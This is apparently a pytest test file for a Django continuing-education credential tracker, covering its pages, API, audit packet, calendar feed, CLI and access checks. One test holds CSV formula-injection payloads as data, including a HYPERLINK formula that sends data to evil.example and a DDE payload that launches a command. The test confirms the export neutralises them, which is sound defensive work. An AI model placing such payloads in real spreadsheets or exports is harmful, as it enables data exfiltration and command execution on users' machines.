"""Pages, API, audit packet, calendar and refusals of the learning pillar."""

import io
import json
import zipfile
from datetime import date
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from medpath.learning import services
from medpath.learning.models import Credential, LearningActivity
from tests.import_steps import import_through_page
from tests.learning.conftest import hours
from tests.learning.test_services import CSV_GOOD, PNG
from tests.pagetext import rough_text, visible_text


def test_overview_lists_credentials_with_progress(alice_client, alice, ca_licence) -> None:
    """The overview shows each rule as a progress bar with its text."""
    hours(alice, "Sepsis update", "10")
    page = alice_client.get(reverse("learning:overview")).content.decode()
    assert "California RN licence" in page
    assert "<progress" in page
    assert "10 of 30" in page


def test_add_credential_and_record_activity_on_pages(alice_client, alice, settings, tmp_path) -> None:
    """The forms add a credential, then an activity with a certificate; errors name their field."""
    settings.MEDIA_ROOT = tmp_path
    response = alice_client.post(
        reverse("learning:credential_new"),
        {
            "kind": "licence",
            "name": "CA RN",
            "expires_on": "2028-01-31",
            "requirement_set_id": "ca-rn-licence",
            "renewal_number": "2",
            "direct_patient_care": "on",
        },
    )
    credential = Credential.objects.for_user(alice).get()
    assert response["Location"] == reverse("learning:credential", args=[credential.pk])
    bad = alice_client.post(
        reverse("learning:activity_new"),
        {"title": "X", "completed_on": "2027-03-01", "format": "live", "credit_type_1": "contact_hours", "amount_1": "900"},
    )
    assert "completed_on" in bad.context["form"].errors
    assert "amount_1" in bad.context["form"].errors
    ok = alice_client.post(
        reverse("learning:activity_new"),
        {
            "title": "Implicit bias",
            "completed_on": "2026-05-02",
            "format": "live",
            "credit_type_1": "contact_hours",
            "amount_1": "1",
            "topics": ["implicit-bias"],
            "certificate": SimpleUploadedFile("cert.png", PNG, "image/png"),
        },
    )
    assert ok.status_code == 302
    activity = LearningActivity.objects.for_user(alice).get()
    assert activity.certificate is not None
    served = alice_client.get(reverse("learning:certificate", args=[activity.certificate.pk]))
    assert served.status_code == 200
    assert b"".join(served.streaming_content).startswith(b"\x89PNG")


def test_import_page_lists_bad_rows(alice_client, alice, ca_licence) -> None:
    """The import page lists every bad row with its line, and saves nothing."""
    bad = (CSV_GOOD + "Bad,2026-13-01,contact_hours,1,,live\n").encode()
    page = import_through_page(alice_client, reverse("learning:activity_import"), "t.csv", bad)
    assert page.status_code == 400
    assert "Line 4, <code>completed_on</code>" in page.content.decode()
    assert not LearningActivity.objects.for_user(alice).exists()


def test_audit_packet_pdf_and_zip(alice_client, alice, ca_licence, settings, tmp_path) -> None:
    """The audit summary is a PDF; the ZIP holds it, a CSV of counted activities and the certificates."""
    settings.MEDIA_ROOT = tmp_path
    certificate = services.certificate_store(user=alice, upload=SimpleUploadedFile("c.png", PNG, "image/png"))
    services.activity_create(
        user=alice,
        data=services.ActivityInput(
            title="Course with certificate",
            completed_on=date(2026, 6, 1),
            awards=[("contact_hours", __import__("decimal").Decimal("30"))],
        ),
        certificate=certificate,
    )
    pdf = alice_client.get(reverse("learning:packet_pdf", args=[ca_licence.pk]))
    assert pdf["Content-Type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")
    archive = zipfile.ZipFile(io.BytesIO(alice_client.get(reverse("learning:packet_zip", args=[ca_licence.pk])).content))
    names = archive.namelist()
    assert "summary.pdf" in names
    assert "activities.csv" in names
    assert any(name.startswith("certificates/") and name.endswith("c.png") for name in names)
    assert "Course with certificate" in archive.read("activities.csv").decode()


def test_deadline_calendar_feed(alice_client, alice, ca_licence, client) -> None:
    """A private link serves every deadline as iCalendar."""
    issued = alice_client.post(reverse("learning:calendar_link")).context["issued"]
    feed = client.get(issued.url.replace("http://127.0.0.1:8000", ""))
    body = feed.content.decode().replace("\r\n ", "")
    assert feed.status_code == 200
    assert "SUMMARY:California RN licence expires" in body


def test_api_credentials_and_activities(alice_client, alice) -> None:
    """Create a credential and an activity through the API and read the explained status."""
    created = alice_client.post(
        "/api/v1/learning/credentials",
        data={
            "kind": "licence",
            "name": "CA RN",
            "expires_on": "2028-01-31",
            "requirement_set_id": "ca-rn-licence",
            "renewal_number": 2,
        },
        content_type="application/json",
    )
    assert created.status_code == 201, created.content
    credential_id = created.json()["id"]
    activity = alice_client.post(
        "/api/v1/learning/activities",
        data={"title": "Course", "completed_on": "2026-06-01", "awards": [{"credit_type": "contact_hours", "amount": "30"}]},
        content_type="application/json",
    )
    assert activity.status_code == 201
    detail = alice_client.get(f"/api/v1/learning/credentials/{credential_id}").json()
    assert detail["evaluation"]["status"] == "met"
    rule = detail["evaluation"]["rules"][0]
    assert {"id", "required", "counted", "missing"} <= set(rule)
    bad = alice_client.post(
        "/api/v1/learning/activities",
        data={"title": "Huge", "completed_on": "2026-06-01", "awards": [{"credit_type": "contact_hours", "amount": "900"}]},
        content_type="application/json",
    )
    assert bad.status_code == 422
    assert "amount" in bad.json()["fields"]
    assert alice_client.get("/api/v1/learning/requirement-sets/ca-rn-licence").json()["last_verified"]
    assert alice_client.get("/api/v1/learning/deadlines").json()[0]["due"]


def test_everything_refuses_outsiders(
    client, db, alice, alice_client, charlie_client, ca_licence, refused, settings, tmp_path
) -> None:
    """Visitors are sent to log in; Charlie gets 404 for Alice's credential, activity, certificate and packet."""
    settings.MEDIA_ROOT = tmp_path
    for name in (
        "learning:overview",
        "learning:credential_new",
        "learning:activities",
        "learning:activity_new",
        "learning:activity_import",
        "learning:rules",
    ):
        refused(client, "get", reverse(name))
    refused(client, "post", reverse("learning:reminder_settings"))
    refused(client, "post", reverse("learning:calendar_link"))
    certificate = services.certificate_store(user=alice, upload=SimpleUploadedFile("c.png", PNG, "image/png"))
    activity = hours(alice, "Course", "2")
    pk = ca_licence.pk
    for name in ("learning:credential", "learning:credential_edit", "learning:packet_pdf", "learning:packet_zip"):
        refused(charlie_client, "get", reverse(name, args=[pk]), owner=alice_client)
    refused(charlie_client, "get", reverse("learning:certificate", args=[certificate.pk]), owner=alice_client)
    refused(charlie_client, "post", reverse("learning:credential_delete", args=[pk]), owner=alice_client)
    refused(charlie_client, "post", reverse("learning:activity_delete", args=[activity.pk]), owner=alice_client)
    for method, path in (
        ("get", "/api/v1/learning/credentials"),
        ("get", "/api/v1/learning/activities"),
        ("get", "/api/v1/learning/deadlines"),
        ("get", "/api/v1/learning/requirement-sets"),
        ("post", "/api/v1/learning/credentials"),
        ("post", "/api/v1/learning/activities"),
    ):
        refused(client, method, path, data={}, content_type="application/json") if method == "post" else refused(
            client, method, path
        )
    refused(client, "get", "/api/v1/learning/requirement-sets/ca-rn-licence", shared_data=True)
    refused(charlie_client, "get", f"/api/v1/learning/credentials/{pk}", owner=alice_client)
    refused(charlie_client, "delete", f"/api/v1/learning/credentials/{pk}", owner=alice_client)
    refused(charlie_client, "delete", f"/api/v1/learning/activities/{activity.pk}", owner=alice_client)
    assert Credential.objects.for_user(alice).filter(pk=pk).exists()


def test_cli_requirements_check_is_stateless(tmp_path) -> None:
    """`medpath requirements check` evaluates a CSV against a catalog set, with the documented JSON."""
    from typer.testing import CliRunner

    from medpath.cli import app

    transcript = tmp_path / "t.csv"
    transcript.write_text(CSV_GOOD)
    result = CliRunner().invoke(
        app,
        [
            "requirements",
            "check",
            "--set",
            "ca-rn-licence",
            "--cycle-end",
            "2028-01-31",
            "--activities",
            str(transcript),
            "--today",
            "2027-01-10",
            "--json",
        ],
    )
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert data["status"] in {"at-risk", "on-track"}
    assert data["deadline"] == "2028-01-31"
    total = next(r for r in data["rules"] if r["id"] == "total")
    assert (total["required"], total["counted"], total["missing"]) == (30, 3.5, 26.5)
    bad = CliRunner().invoke(
        app, ["requirements", "check", "--set", "nowhere", "--cycle-end", "2028-01-31", "--activities", str(transcript)]
    )
    assert bad.exit_code == 1


def test_cli_credentials_and_ce(alice, ca_licence, tmp_path) -> None:
    """`medpath ce add` and `ce import` record activities; `credentials --json` shows the status."""
    from typer.testing import CliRunner

    from medpath.cli import app

    runner = CliRunner()
    added = runner.invoke(
        app, ["ce", "add", "--user", "alice@example.org", "--title", "Course", "--date", "2026-06-01", "--credits", "2"]
    )
    assert added.exit_code == 0, added.output
    transcript = tmp_path / "t.csv"
    transcript.write_text(CSV_GOOD + "Bad,2026-13-01,contact_hours,1,,live\n")
    rejected = runner.invoke(app, ["ce", "import", str(transcript), "--user", "alice@example.org"])
    assert rejected.exit_code == 1
    assert "line 4, completed_on" in rejected.output
    transcript.write_text(CSV_GOOD)
    assert runner.invoke(app, ["ce", "import", str(transcript), "--user", "alice@example.org"]).exit_code == 0
    listed = json.loads(runner.invoke(app, ["credentials", "--user", "alice@example.org", "--json"]).output)
    total = listed["credentials"][0]["evaluation"]["rules"][0]
    assert total["counted"] == 5.5


def test_simple_rules_form(alice_client, alice) -> None:
    """The rules form builds a set of one's own that a credential can then follow."""
    response = alice_client.post(
        reverse("learning:rules"),
        {
            "simple-set_id": "nv-rn",
            "simple-name": "Nevada RN",
            "simple-issuer": "Nevada board",
            "simple-credential_kind": "licence",
            "simple-unit": "contact_hours",
            "simple-cycle_months": "24",
            "simple-total": "30",
            "simple-source_title": "Nevada CE page",
            "simple-source_url": "https://example.org/nv",
            "simple-source_year": "2026",
            "simple-topic_1": "medical-ethics",
            "simple-topic_1_hours": "2",
            "simple-submit": "1",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    page = alice_client.get(reverse("learning:rules")).content.decode()
    assert "mine:nv-rn" in page
    missing_hours = alice_client.post(
        reverse("learning:rules"),
        {
            "simple-set_id": "nv-2",
            "simple-name": "X",
            "simple-issuer": "X",
            "simple-credential_kind": "licence",
            "simple-unit": "contact_hours",
            "simple-cycle_months": "24",
            "simple-total": "30",
            "simple-source_title": "X page",
            "simple-source_url": "https://example.org",
            "simple-source_year": "2026",
            "simple-topic_1": "medical-ethics",
            "simple-submit": "1",
        },
    )
    assert "topic_1_hours" in missing_hours.context["simple_form"].errors


def test_audit_packet_for_the_previous_cycle(alice_client, alice, ca_licence) -> None:
    """?cycle_end= picks the cycle that was just renewed; a malformed date is a 404."""
    ca_licence.renewal_number = 3  # so the previous cycle is not the CE-exempt first renewal
    ca_licence.save()
    services.activity_create(
        user=alice,
        data=services.ActivityInput(
            title="Last cycle's course",
            completed_on=date(2025, 6, 1),
            awards=[("contact_hours", __import__("decimal").Decimal("30"))],
            keep_outside_cycles=True,
        ),
    )
    previous = alice_client.get(reverse("learning:packet_zip", args=[ca_licence.pk]) + "?cycle_end=2026-01-31")
    archive = zipfile.ZipFile(io.BytesIO(previous.content))
    assert "Last cycle's course" in archive.read("activities.csv").decode()
    assert alice_client.get(reverse("learning:packet_pdf", args=[ca_licence.pk]) + "?cycle_end=soon").status_code == 404


def test_learning_pages_make_a_fixed_number_of_queries(alice_client, alice, ca_licence) -> None:
    """The overview, a credential's page, the activity list and the dashboard cost the same with 2 or 40 activities."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def counts() -> list[int]:
        found = []
        for url in (
            reverse("learning:overview"),
            reverse("learning:credential", args=[ca_licence.pk]),
            reverse("learning:activities"),
            reverse("home:dashboard"),
        ):
            with CaptureQueriesContext(connection) as queries:
                assert alice_client.get(url).status_code == 200
            found.append(len(queries))
        return found

    for n in range(2):
        hours(alice, f"Course {n}", "1")
    few = counts()
    for n in range(38):
        hours(alice, f"More {n}", "0.5", date(2026, 7, 1), "implicit-bias")
    assert counts() == few


def test_notes_that_name_a_patient_are_pointed_at_before_saving(alice_client, alice, ca_licence) -> None:
    """The privacy guard quotes the identifier next to the field; nothing saves until the user confirms."""
    fields = {
        "title": "Sepsis case review",
        "completed_on": "2026-05-02",
        "format": "live",
        "credit_type_1": "contact_hours",
        "amount_1": "1",
        "keep_outside_cycles": "on",
        "notes": "Reviewed Pt Jane Doe (MRN 4471823) with Dr. Lee.",
    }

    flagged = alice_client.post(reverse("learning:activity_new"), fields)

    assert flagged.status_code == 200
    errors = flagged.context["form"].errors["notes"][0]
    assert "“Jane Doe”" in errors
    assert "“4471823”" in errors
    assert "Dr. Lee" not in errors
    assert 'type="checkbox" name="privacy_confirmed"' in flagged.content.decode()
    assert not LearningActivity.objects.for_user(alice).exists()

    confirmed = alice_client.post(reverse("learning:activity_new"), {**fields, "privacy_confirmed": "on"})
    clean = alice_client.post(reverse("learning:activity_new"), {**fields, "notes": "Reviewed a sepsis case with Dr. Lee."})

    assert confirmed.status_code == 302
    assert clean.status_code == 302
    assert LearningActivity.objects.for_user(alice).count() == 2


def test_the_audit_packet_csv_cannot_run_formulas(alice_client, alice, ca_licence) -> None:
    """Issue 11, finding 5: titles and providers that a spreadsheet would run as formulas are written as text
    (a leading apostrophe); the values are otherwise unchanged."""
    import csv

    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
    for n, title in enumerate(hostile):
        services.activity_create(
            user=alice,
            data=services.ActivityInput(
                title=title,
                completed_on=date(2026, 6, 1 + n),
                provider="=1+1",
                awards=[("contact_hours", __import__("decimal").Decimal("8"))],
            ),
        )
    archive = zipfile.ZipFile(io.BytesIO(alice_client.get(reverse("learning:packet_zip", args=[ca_licence.pk])).content))
    rows = list(csv.DictReader(io.StringIO(archive.read("activities.csv").decode())))
    assert sorted(row["title"] for row in rows) == sorted("'" + title for title in hostile)
    assert {row["provider"] for row in rows} == {"'=1+1"}
    assert all(row["completed_on"].startswith("2026-06-0") for row in rows)


def test_the_audit_packet_csv_has_each_activitys_credits_and_what_they_counted_toward(alice_client, alice, ca_licence) -> None:
    """Issue 11, finding 13: activities.csv carries every credit award (amount and type, in the order entered) and the
    rules the activity counted toward with the amount, so a board can add them up without the PDF."""
    import csv
    from decimal import Decimal

    services.activity_create(
        user=alice,
        data=services.ActivityInput(
            title="Bias and sepsis day",
            completed_on=date(2026, 6, 1),
            awards=[("contact_hours", Decimal("8")), ("ceu", Decimal("0.8"))],
            topics=["implicit-bias"],
        ),
    )
    hours(alice, "Wound care", "2.5", date(2026, 7, 1))

    archive = zipfile.ZipFile(io.BytesIO(alice_client.get(reverse("learning:packet_zip", args=[ca_licence.pk])).content))
    rows = {row["title"]: row for row in csv.DictReader(io.StringIO(archive.read("activities.csv").decode()))}

    assert rows["Bias and sepsis day"]["credit_amount"] == "8; 0.8"
    assert rows["Bias and sepsis day"]["credit_type"] == "contact_hours; ceu"
    assert rows["Wound care"]["credit_amount"] == "2.5"
    assert rows["Wound care"]["credit_type"] == "contact_hours"
    assert rows["Wound care"]["counted_toward"] == "30 contact hours in the two-year renewal period: 2.5 contact hours"
    counted = rows["Bias and sepsis day"]["counted_toward"].split("; ")
    assert "30 contact hours in the two-year renewal period: 8 contact hours" in counted


def test_the_audit_pdf_wraps_long_requirement_names(alice_client, alice, ca_licence) -> None:
    """Issue 11, finding 13: the PDF's "Counted toward" column wraps a long requirement name instead of cutting it
    off at 40 characters (the text extracted from the PDF holds it whole)."""
    from pypdf import PdfReader

    hours(alice, "Wound care", "2.5", date(2026, 7, 1))
    pdf = alice_client.get(reverse("learning:packet_pdf", args=[ca_licence.pk])).content
    text = " ".join(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages).split())
    counted_section = text.split("Counted activities", 1)[1]
    assert "30 contact hours in the two-year renewal period" in counted_section


def test_the_transcript_import_offers_a_sample_that_imports_cleanly(alice_client, alice, client, refused) -> None:
    """Issue 11, finding 13: the import page links a sample CSV, served as an attachment in the import's own columns,
    that the importer takes with no problem; a visitor is sent to log in."""
    from medpath.learning.transcripts import CSV_COLUMNS

    url = reverse("learning:activity_import_sample")
    assert url in alice_client.get(reverse("learning:activity_import")).content.decode()
    response = alice_client.get(url)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    text = response.content.decode()
    assert tuple(text.splitlines()[0].split(",")) == CSV_COLUMNS

    preview = services.activities_import(user=alice, data=text)

    assert preview.applied
    assert len(preview.added) == len(text.splitlines()) - 1
    refused(client, "get", url)


def test_credential_pages_give_the_status_and_the_rules_in_words(alice_client, alice, ca_licence) -> None:
    """The overview and a credential's page say “on track” / “at risk”, not on-track / at-risk; the AHA card's note
    has no field names (it said “effective_from is the source page date”)."""
    bls = services.credential_save(
        user=alice, kind="life_support", name="BLS", expires_on=date(2027, 6, 30), requirement_set_id="aha-bls"
    )
    overview = visible_text(alice_client.get(reverse("learning:overview")).content)
    assert not set(overview.split()) & {"on-track", "at-risk", "no-date"}
    for credential in (ca_licence, bls):
        text = visible_text(alice_client.get(reverse("learning:credential", args=[credential.pk])).content)
        assert rough_text(text) == []
        assert not set(text.split()) & {"on-track", "at-risk", "no-date"}
    page = alice_client.get(reverse("learning:credential", args=[ca_licence.pk]))
    status = page.context["status"]
    assert f">{status.status_label}</span>" in page.content.decode()


def test_the_previous_cycle_is_a_link_not_an_instruction(alice_client, alice, ca_licence) -> None:
    """The credential page links the previous cycle's summary and packet (it said “add ?cycle_end=… to either
    link”); each link gives that cycle."""
    page = alice_client.get(reverse("learning:credential", args=[ca_licence.pk]))
    html, text = page.content.decode(), visible_text(page.content)
    assert "cycle_end" not in text
    assert "add ?" not in text
    assert "Previous cycle (1 Feb 2024 – 31 Jan 2026)" in text
    pdf = reverse("learning:packet_pdf", args=[ca_licence.pk]) + "?cycle_end=2026-01-31"
    archive = reverse("learning:packet_zip", args=[ca_licence.pk]) + "?cycle_end=2026-01-31"
    assert f'href="{pdf}"' in html
    assert f'href="{archive}"' in html
    assert alice_client.get(pdf)["Content-Type"] == "application/pdf"
    assert alice_client.get(archive)["Content-Type"] == "application/zip"


def test_a_first_cycle_offers_no_previous_one(alice_client, alice, ca_licence) -> None:
    """A licence in its first cycle after issue had links to audit a 'previous cycle' it never had (a newcomer's
    new California licence offered 1 Jul 2023 – 30 Jun 2025)."""
    ca_licence.renewal_number = 1
    ca_licence.save()
    text = visible_text(alice_client.get(reverse("learning:credential", args=[ca_licence.pk])).content)
    assert "Previous cycle" not in text
    assert "previous cycle" not in text


def test_a_credential_kind_is_shown_without_the_examples_of_its_choice(alice_client, alice, ca_licence) -> None:
    """An ARRT registration read "Registration (DEA, state controlled substance, NPI)" (found by a newcomer)."""
    ca_licence.kind = "registration"
    ca_licence.save()
    for url in (reverse("learning:credential", args=[ca_licence.pk]), reverse("learning:overview")):
        text = visible_text(alice_client.get(url).content)
        assert "Registration" in text
        assert "DEA, state controlled substance" not in text


TRACKER_EXPORT = """Course,Date completed,Credits,Credit type,Sponsor,My rating
Sepsis update,2026-03-01,1.5,contact_hours,County Hospital,5
"Wound care,
part two",2026-04-01,2,contact_hours,County Hospital,4
"""


def test_the_transcript_api_maps_columns_checks_and_imports(alice_client, alice, ca_licence) -> None:
    """A tracker's export with its own headers: matched by alias, the extra column left out by the mapping; the dry
    run names each row's lines; a flagged patient name is refused until confirmed; a visitor is refused."""
    url = "/api/v1/learning/activities/import"

    def post(text: str, **fields: Any) -> Any:
        return alice_client.post(url, {"file": SimpleUploadedFile("export.csv", text.encode()), **fields})

    strict = post(TRACKER_EXPORT)
    assert strict.status_code == 422
    assert "My rating" in strict.content.decode()
    dry = post(TRACKER_EXPORT, dry_run="true", mapping=["My rating="])
    assert dry.status_code == 200, dry.content
    assert [(row["lines"], row["summary"]) for row in dry.json()["added"]] == [
        ("line 2", "Sepsis update, 2026-03-01 (1.5 contact_hours)"),
        ("lines 3–4", "Wound care,\npart two, 2026-04-01 (2 contact_hours)"),
    ]
    assert not LearningActivity.objects.for_user(alice).exists()
    patient = TRACKER_EXPORT.replace("Sepsis update", "Sepsis case of John Smith MRN 12345678")
    flagged = post(patient, mapping=["My rating="])
    assert flagged.status_code == 422
    assert "line 2" in flagged.json()["fields"]
    assert not LearningActivity.objects.for_user(alice).exists()
    done = post(patient, mapping=["My rating="], privacy_confirmed="true")
    assert done.status_code == 200
    assert LearningActivity.objects.for_user(alice).count() == 2


def test_the_transcript_import_refuses_visitors(client, refused) -> None:
    """The page and the API answer no one who is not logged in."""
    refused(client, "get", reverse("learning:activity_import"))
    refused(client, "post", "/api/v1/learning/activities/import")
